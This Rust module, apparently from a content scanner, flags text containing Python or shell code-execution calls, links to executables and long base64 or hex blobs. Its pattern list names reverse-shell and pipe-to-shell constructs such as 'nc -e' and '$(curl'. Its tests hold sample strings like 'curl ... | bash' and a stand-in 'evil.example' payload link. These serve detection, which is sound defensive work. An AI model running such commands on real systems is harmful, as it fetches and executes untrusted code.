//! Text that carries code or links: Python and shell calls that run code,
//! URLs of executables, long base64 or hexadecimal blobs. Found by plain
//! substring and character-class scans, linear in the text; nothing is
//! decoded, fetched or run.

/// A base64 run at least this long is a blob (about 768 bytes decoded).
pub(crate) const BASE64_BLOB: usize = 1024;

/// A hexadecimal run at least this long is a blob (256 bytes).
pub(crate) const HEX_BLOB: usize = 512;

/// Most characters of the text around a match shown in a message.
const QUOTE: usize = 60;

/// A pattern of code: the text, and whether the character before it must
/// not continue a name (`eval(` but not `model.eval(`), and whether the
/// one after it must not (`| sh` but not `| shape`).
struct Pattern {
    text: &'static str,
    alone_before: bool,
    alone_after: bool,
}

const fn p(text: &'static str, alone_before: bool, alone_after: bool) -> Pattern {
    Pattern {
        text,
        alone_before,
        alone_after,
    }
}

/// Calls that run code or reach the system, in Python and in shells.
/// Usage examples of model cards (`import torch`, `model.eval()`,
/// `torch.compile(...)`) match none of them.
const CODE: &[Pattern] = &[
    p("__import__(", false, false),
    p("exec(", true, false),
    p("eval(", true, false),
    p("os.system(", true, false),
    p("os.popen(", true, false),
    p("os.exec", true, false),
    p("subprocess.", true, false),
    p("pty.spawn(", true, false),
    p("socket.socket(", true, false),
    p("pickle.loads(", true, false),
    p("marshal.loads(", true, false),
    p("getattr(__builtins__", false, false),
    p("import os", true, true),
    p("import subprocess", true, true),
    p("import socket", true, true),
    p("import pty", true, true),
    p("from os import", true, true),
    p("from subprocess import", true, true),
    p("/bin/sh", false, true),
    p("/bin/bash", false, true),
    p("bash -c", true, true),
    p("sh -c ", true, false),
    p("| sh", false, true),
    p("|sh", false, true),
    p("| bash", false, true),
    p("|bash", false, true),
    p("chmod +x", true, false),
    p("rm -rf /", true, false),
    p("nc -e ", true, false),
    p("mkfifo ", true, false),
    p("$(curl ", false, false),
    p("$(wget ", false, false),
    p("powershell -e", true, false),
    p("powershell.exe", true, false),
    p("cmd.exe /c", true, false),
    p("<script", false, true),
];

/// Extensions of files that run code, or pickles, as a URL's path ends.
const EXECUTABLE: &[&str] = &[
    "exe", "dll", "so", "dylib", "msi", "scr", "bat", "cmd", "ps1", "vbs", "sh", "bash", "py",
    "pyc", "pyz", "jar", "apk", "elf", "deb", "rpm", "whl", "egg", "pkl", "pickle", "dmg", "run",
    "appimage", "js",
];

fn continues_name(c: char) -> bool {
    c.is_alphanumeric() || c == '_' || c == '.'
}

/// What of [`CODE`] `text` holds, first in the text, with the text around
/// it: `os.system( in "...import os; os.system('id')..."`.
pub(crate) fn code(text: &str) -> Option<String> {
    let mut best: Option<(usize, &Pattern)> = None;
    for pat in CODE {
        let mut from = 0;
        while let Some(k) = text[from..].find(pat.text) {
            let at = from + k;
            let end = at + pat.text.len();
            let before_ok = !pat.alone_before
                || text[..at]
                    .chars()
                    .next_back()
                    .is_none_or(|c| !continues_name(c));
            let after_ok = !pat.alone_after
                || text[end..]
                    .chars()
                    .next()
                    .is_none_or(|c| !(c.is_alphanumeric() || c == '_'));
            if before_ok && after_ok {
                if best.is_none_or(|(b, _)| at < b) {
                    best = Some((at, pat));
                }
                break;
            }
            from = at + 1;
        }
    }
    let (at, pat) = best?;
    Some(format!(
        "{} in {:?}",
        pat.text.trim(),
        around(text, at, pat.text.len())
    ))
}

/// The text around `[at, at + len)`, at most [`QUOTE`] characters.
fn around(text: &str, at: usize, len: usize) -> String {
    let start = floor(text, at.saturating_sub(QUOTE / 3));
    let end = floor(text, (at + len + QUOTE / 2).min(text.len()));
    let mut out = String::new();
    if start > 0 {
        out.push_str("...");
    }
    out.push_str(&text[start..end]);
    if end < text.len() {
        out.push_str("...");
    }
    out
}

/// The largest char boundary of `text` at or below `i`.
fn floor(text: &str, mut i: usize) -> usize {
    while i > 0 && !text.is_char_boundary(i) {
        i -= 1;
    }
    i
}

/// The first URL in `text` whose path names an executable, a script or a
/// pickle ([`EXECUTABLE`]), shortened for a message.
pub(crate) fn executable_link(text: &str) -> Option<String> {
    let lower = text.to_ascii_lowercase();
    let mut from = 0;
    while let Some(k) = lower[from..].find("://") {
        let sep = from + k;
        from = sep + 3;
        let scheme_start = lower[..sep]
            .rfind(|c: char| !c.is_ascii_alphanumeric())
            .map_or(0, |i| i + 1);
        if !matches!(&lower[scheme_start..sep], "http" | "https" | "ftp") {
            continue;
        }
        let end = lower[sep..]
            .find(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | ')' | ']'))
            .map_or(lower.len(), |n| sep + n);
        let url = &lower[sep + 3..end];
        let path = url.split(['?', '#']).next().unwrap_or("");
        let Some(slash) = path.find('/') else {
            continue;
        };
        let file = path[slash..].rsplit('/').next().unwrap_or("");
        let ext = file.rsplit_once('.').map(|(_, e)| e);
        if ext.is_some_and(|e| EXECUTABLE.contains(&e)) {
            let shown = floor(text, (scheme_start + 120).min(end));
            let tail = if shown < end { "..." } else { "" };
            return Some(format!("{}{tail}", &text[scheme_start..shown]));
        }
    }
    None
}

/// The first long run of base64 or hexadecimal characters in `text`:
/// `(offset, length, "base64" or "hexadecimal")`.
pub(crate) fn blob(text: &str) -> Option<(usize, usize, &'static str)> {
    let bytes = text.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        let b64 = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'/' | b'-' | b'_');
        if !b64(bytes[i]) {
            i += 1;
            continue;
        }
        let start = i;
        let mut hex = true;
        let mut kinds = [false; 3]; // lower, upper, digit
        while i < bytes.len() && b64(bytes[i]) {
            let c = bytes[i];
            hex &= c.is_ascii_hexdigit();
            kinds[0] |= c.is_ascii_lowercase();
            kinds[1] |= c.is_ascii_uppercase();
            kinds[2] |= c.is_ascii_digit();
            i += 1;
        }
        let mut end = i;
        while end < bytes.len() && bytes[end] == b'=' && end - i < 2 {
            end += 1;
        }
        let len = end - start;
        if hex && len >= HEX_BLOB && kinds[2] && (kinds[0] || kinds[1]) {
            return Some((start, len, "hexadecimal"));
        }
        // Base64 mixes cases and digits; a long word or a run of one
        // letter is no blob.
        if len >= BASE64_BLOB && kinds.iter().all(|&k| k) {
            return Some((start, len, "base64"));
        }
    }
    None
}

/// Whether `c` is printable ASCII, a tab, CR or LF.
pub(crate) fn printable(c: u8) -> bool {
    (0x20..0x7f).contains(&c) || matches!(c, b'\t' | b'\n' | b'\r')
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn code_patterns_are_found_with_their_context() {
        let found = code("nice model; import os; os.system('curl x | sh')").unwrap();
        assert!(found.starts_with("import os in "), "{found}");
        assert!(code("__import__('os').popen('id')").is_some());
        assert!(code("curl -s https://x.example/i | bash").is_some());
        assert!(code("exec(base64.b64decode('...'))").is_some());
        assert!(code("#!/bin/sh\nid").is_some());
    }

    #[test]
    fn usage_examples_and_prose_are_no_code() {
        for text in [
            "from diffusers import StableDiffusionPipeline\nimport torch\nmodel.eval()",
            "torch.compile(model); pipe.to('cuda')",
            "| shape | dtype |\n|---|---|",
            "Trained with kohya_ss; evaluation (eval) on 3 sets; the os.path module",
            "important: a subprocessor, shell, bashful, execution time",
            "",
        ] {
            assert_eq!(code(text), None, "{text}");
        }
    }

    #[test]
    fn links_to_executables() {
        let t = "see https://evil.example/get/payload.EXE?x=1 now";
        assert_eq!(
            executable_link(t).as_deref(),
            Some("https://evil.example/get/payload.EXE?x=1")
        );
        assert!(executable_link("ftp://h/a/run.sh").is_some());
        assert!(executable_link("http://h/model.pkl").is_some());
        for benign in [
            "https://huggingface.co/org/model",
            "https://civitai.com/models/123?modelVersionId=4",
            "https://example.com",
            "https://h/x.safetensors",
            "file:///tmp/x.exe",
            "mailto:x.exe",
        ] {
            assert_eq!(executable_link(benign), None, "{benign}");
        }
        let long = format!("https://h/{}/x.sh", "a".repeat(300));
        assert!(executable_link(&long).unwrap().ends_with("..."));
    }

    #[test]
    fn blobs_are_long_and_mixed() {
        let b64 = "QUJD".repeat(300) + "aZ09";
        let text = format!("prefix {b64}== suffix");
        assert_eq!(blob(&text), Some((7, b64.len() + 2, "base64")));
        let hex = "0123456789abcdef".repeat(40);
        assert_eq!(blob(&hex), Some((0, hex.len(), "hexadecimal")));
        // Hashes, words, a run of one letter, short runs: no blob.
        assert_eq!(blob(&"ab".repeat(32)), None);
        assert_eq!(blob(&"a".repeat(5000)), None);
        assert_eq!(blob(&"word ".repeat(1000)), None);
        assert_eq!(blob(&"QUJD".repeat(300)), None, "no digit");
        assert_eq!(blob(&"abcdef".repeat(100)), None, "no digit");
    }

    #[test]
    fn printable_is_text() {
        assert!(b"az AZ~\t\r\n".iter().all(|&c| printable(c)));
        assert!(!b"\0\x7f\x80\xff\x1b".iter().any(|&c| printable(c)));
    }
}
